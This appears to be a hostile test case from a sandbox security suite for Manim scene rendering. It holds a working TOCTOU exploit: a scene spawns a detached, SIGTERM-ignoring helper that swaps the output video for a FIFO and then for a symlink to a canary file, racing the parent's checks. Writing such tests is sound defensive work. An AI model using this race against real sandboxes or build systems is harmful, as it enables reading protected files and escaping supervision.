# class 3: tricking the trusted parent with what the scene leaves (TOCTOU)
# tries: leaves a good clip but starts a helper (new session, SIGTERM ignored) that swaps it for a FIFO, then for a
# symlink to the canary, a moment after the scene exits, racing the parent's checks and copy.
import os, signal, time
class HOSTILE(Scene):
    def construct(self): self.add(Circle()); self.wait(0.2)
    def render(self, *a, **k):
        super().render(*a, **k)
        p = os.path.abspath(f'media/videos/scene/480p15/{type(self).__name__}.mp4')
        if os.fork() == 0:
            os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN)
            if os.fork(): os._exit(0)
            for delay in (0.0005, 0.002, 0.01, 0.05, 0.2):
                time.sleep(delay)
                try:
                    os.rename(p, p + '.bak'); os.mkfifo(p)
                    time.sleep(0.001); os.unlink(p); os.symlink('@CANARY_PATH@', p)
                    time.sleep(0.001); os.unlink(p); os.rename(p + '.bak', p)
                except OSError: pass
            os._exit(0)
        time.sleep(0.01)
